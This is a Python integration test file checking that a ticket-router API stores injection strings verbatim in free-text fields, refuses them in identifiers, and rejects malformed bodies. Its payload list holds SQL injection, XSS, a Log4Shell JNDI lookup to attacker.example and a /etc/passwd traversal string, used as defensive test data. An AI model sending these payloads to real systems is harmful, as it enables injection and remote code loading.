"""Hostile input on the router's API: injection strings in its free-text fields are kept
verbatim (and harmless); in its identifiers and enumerations they are a 4xx naming the field;
broken bodies and wrong content types are 4xx problems. Nothing refused leaves a row or an
outbox event (the only way anything reaches Kafka)."""

from __future__ import annotations

from typing import Any

import pytest

from tests.integration.router.conftest import Router

INJECTIONS = [
    "'; DROP TABLE tickets; --",
    '" OR 1=1 --',
    "<script>alert('x')</script>",
    "{{7*7}}${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "\u202eevil\u202c 退款 投诉",
]
COUNTED = ("queues", "agents", "tickets", "outbox", "routing_policies", "classification_rules")


async def _counts(router: Router) -> dict[str, int]:
    return {t: (await router.sql(f"SELECT count(*) AS n FROM {t}"))[0].n for t in COUNTED}


async def test_free_text_is_kept_verbatim_and_identifiers_refuse_injection(router: Router) -> None:
    for n, attack in enumerate(INJECTIONS):
        queue = await router.client.put(f"/v1/queues/q{n}", json={"name": attack})
        assert queue.status_code == 200, queue.text
        assert queue.json()["name"] == attack
        agent = await router.client.put(f"/v1/agents/a{n}", json={"name": attack})
        assert agent.status_code == 200
        assert (await router.client.get(f"/v1/agents/a{n}")).json()["name"] == attack
    stored = await router.sql("SELECT name FROM queues WHERE id LIKE 'q%' ORDER BY id")
    assert [r.name for r in stored] == INJECTIONS
    # The relay stopped: a refused request's outbox row (if any) must still be there to count.
    await router.runtime.relay.stop()
    before = await _counts(router)
    for attack in INJECTIONS:
        refused = [
            await router.client.put(f"/v1/agents/{attack}/status", json={"status": "available"}),
            await router.client.put("/v1/agents/a0/status", json={"status": attack}),
            await router.client.put("/v1/queues/q0", json={"name": "x", "strategy": attack}),
            await router.client.put(
                "/v1/routing-policy",
                json={"steps": [{"id": "s", "condition": attack, "queue_id": "q0"}]},
            ),
            await router.client.put(
                "/v1/classification-rules",
                json={"rules": [{"id": attack, "keywords": [["a"]], "category": "x"}]},
            ),
            await router.client.get("/v1/tickets", params={"status": attack}),
        ]
        for response in refused:
            assert 400 <= response.status_code < 500, (attack, response.text)
            assert response.headers["content-type"] == "application/problem+json"
    assert await _counts(router) == before


@pytest.mark.parametrize(
    ("content", "content_type", "status"),
    [
        (b'{"name": "x"', "application/json", 422),
        (b'["name", "x"]', "application/json", 422),
        (b"name=x", "application/x-www-form-urlencoded", 422),
        (b"<queue name='x'/>", "application/xml", 422),
        (b'{"name": "' + b"x" * 2_000_000 + b'"}', "application/json", 413),
        (b'{"name": "x", "surprise": true}', "application/json", 422),
        (b'{"name": "nul\\u0000byte"}', "application/json", 422),
    ],
)
async def test_broken_bodies_are_4xx_problems_and_store_nothing(
    router: Router, content: bytes, content_type: str, status: int
) -> None:
    before = await _counts(router)
    response = await router.client.put(
        "/v1/queues/hostile", content=content, headers={"Content-Type": content_type}
    )
    assert response.status_code == status, response.text
    body: dict[str, Any] = response.json()
    assert body["status"] == status
    assert response.headers["content-type"] == "application/problem+json"
    assert await _counts(router) == before
